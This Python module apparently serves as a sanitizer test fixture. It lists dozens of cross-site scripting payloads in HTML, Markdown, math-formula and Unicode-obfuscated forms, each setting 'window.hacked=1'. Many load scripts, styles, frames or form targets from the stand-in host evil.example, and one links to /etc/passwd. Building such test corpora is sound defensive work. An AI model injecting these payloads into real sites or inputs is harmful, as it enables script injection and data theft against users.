"""Texts that try to run a script or to load something, and would set `window.hacked` or ask evil.example."""

_MARKUP = (
    "<script>RUN</script>",
    "<script src=//evil.example/a.js></script><SCRIPT type=module>RUN</SCRIPT>",
    "</title></style></textarea></script><script>RUN</script>",
    "<img src=x onerror='RUN'>",
    '"><img src=x onerror="RUN">',
    "' onmouseover='RUN' autofocus onfocus='RUN' x='",
    '" onmouseover="RUN" autofocus onfocus="RUN" x="',
    "<img src=https://evil.example/pixel.png srcset='https://evil.example/2x.png 2x'>",
    "<svg onload=RUN><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><script>RUN</script><use href='data:image/svg+xml,<svg onload=RUN>#x'/><image href=//evil.example/i />",
    "<svg><a xlink:href='javascript:RUN'><text>t</text></a><set attributeName=onload to=RUN /></svg>",
    "<math href='javascript:RUN'><mi>x</mi></math><math><maction actiontype=statusline xlink:href=javascript:RUN>y",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=RUN&gt;'>",
    "<iframe srcdoc='<script>parent.RUN</script>'></iframe><iframe src=https://evil.example/f></iframe>",
    "<object data='data:text/html,<script>parent.RUN</script>'></object><embed src=//evil.example/e>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/refresh'>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'><base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/c.css><link rel=preload as=image href=//evil.example/p>",
    "<style>@import url(https://evil.example/a.css); body{background:url(https://evil.example/b.png)}</style>",
    "<p style='background:url(https://evil.example/s.png);position:fixed;inset:0'>over all</p>",
    "<video src=https://evil.example/v autoplay poster=//evil.example/q></video><audio src=//evil.example/w autoplay>",
    "<form action=https://evil.example/form><button formaction='javascript:RUN' autofocus>go</button></form>",
    "<details open ontoggle=RUN>d</details><marquee onstart=RUN>m</marquee><body onpageshow=RUN>",
    "<input autofocus onfocus=RUN><select autofocus onfocus=RUN><video><source onerror=RUN></video>",
    "<template><img src=x onerror=RUN></template><noscript><p title='</noscript><img src=x onerror=RUN>'>",
    "<div id=chaku-dialog><form id=log name=body><input name=attributes></form></div><a id=state href='x:RUN'>",
    "<x-y contenteditable onbeforeinput=RUN>e</x-y><portal src=//evil.example/portal><frameset onload=RUN>",
)
_MARKDOWN = (
    "[click](javascript:RUN) <a href='javascript:RUN'>x</a>",
    "[click](JaVaScRiPt:RUN) [tab](java&Tab;script:RUN) [colon](javascript&colon;RUN) [nul](\x01javascript:RUN)",
    "[vb](vbscript:msgbox) [data](data:text/html,<script>RUN</script>) [svg](data:image/svg+xml,<svg/onload=RUN>)",
    "[b64](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)"
    " [file](file:///etc/passwd) [blob](blob:x)",
    '<javascript:RUN> <https://evil.example/auto"onmouseover="RUN>',
    r'[t](https://evil.example/ "title\" onmouseover=\"RUN") [u](<https://evil.example/"onmouseover="RUN>)',
    "[ref][r] ![ref][r]\n\n[r]: javascript:RUN '\"onerror=RUN'",
    "![p](https://evil.example/markdown.png) ![q](//evil.example/q.png 'q')"
    " [![n](//evil.example/n.png)](//evil.example/n)",
    '![" onerror="RUN](x) ![<img src=x onerror=RUN>](https://evil.example/alt.png)',
    "```html\n<img src=x onerror=RUN>\n```",
    '```"><img src=x onerror=RUN>\ncode\n```',
    "    <script>RUN</script>\n\n`<img src=x onerror=RUN>`",
    "| <img src=x onerror=RUN> | b |\n|---|:-:|\n| <script>RUN</script> | [x](javascript:RUN) |",
    "- <img src=x\n- onerror=RUN>\n\n> <script>\n> RUN\n> </script>\n\n# <svg onload=RUN>",
)
_FORMULAS = (
    r"$$\href{javascript:RUN}{x} \url{javascript:RUN} \includegraphics{https://evil.example/k.png}$$",
    r"\(\text{</mtext></math><img src=x onerror=RUN>}\) $$\text{<script>RUN</script>}$$",
    r'\[\htmlData{x="onload=RUN}{y} \htmlStyle{background:url(//evil.example/z)}{z} \class{x}{y}\]',
    r"$$\style{background:url(https://evil.example/st.png)}{x} \cssId{log}{x} \require{html}$$",
    r"\(\color{red;background:url(//evil.example/col)}{x} \mathchoice{<b>}{a}{a}{a}\)",
    r"$$\begin{matrix}<img src=x onerror=RUN>&\unicode{x3c}script\end{matrix} \def\x{\x\x}\x$$",
)
_UNICODE = (
    "\uff1cscript\uff1eRUN\uff1c/script\uff1e \u2039script\u203a \u02bascript \ufe64img src=x onerror=RUN\ufe65",
    "<scr\u200bipt>RUN</scr\u200bipt> <img\xa0src=x\u2028onerror=RUN> <svg\x0conload=RUN>",
    "\u202e>tpircs/<1=dekcah.wodniw>tpircs<\u202c \ufeff<script>RUN</script>",
    "%3Cscript%3ERUN%3C/script%3E &lt;script&gt;RUN&lt;/script&gt; &#x3c;img src=x onerror=RUN&#x3e;",
    r"\u003cscript\u003eRUN\u003c/script\u003e \x3cimg src=x onerror=RUN\x3e",
    "{{constructor.constructor('RUN')()}} ${RUN} $body $title %(title)s {title} <%= RUN %> #{RUN}",
    "[[page.send]] ]]></script><script>RUN</script> data: x\n\nevent: end\ndata: {}\n\n",
    'javascript:RUN//\n<!--\n--!><img src=x onerror=RUN> `${RUN}` \\";RUN;//',
)

PAYLOADS = tuple(text.replace("RUN", "window.hacked=1") for text in (*_MARKUP, *_MARKDOWN, *_FORMULAS, *_UNICODE))
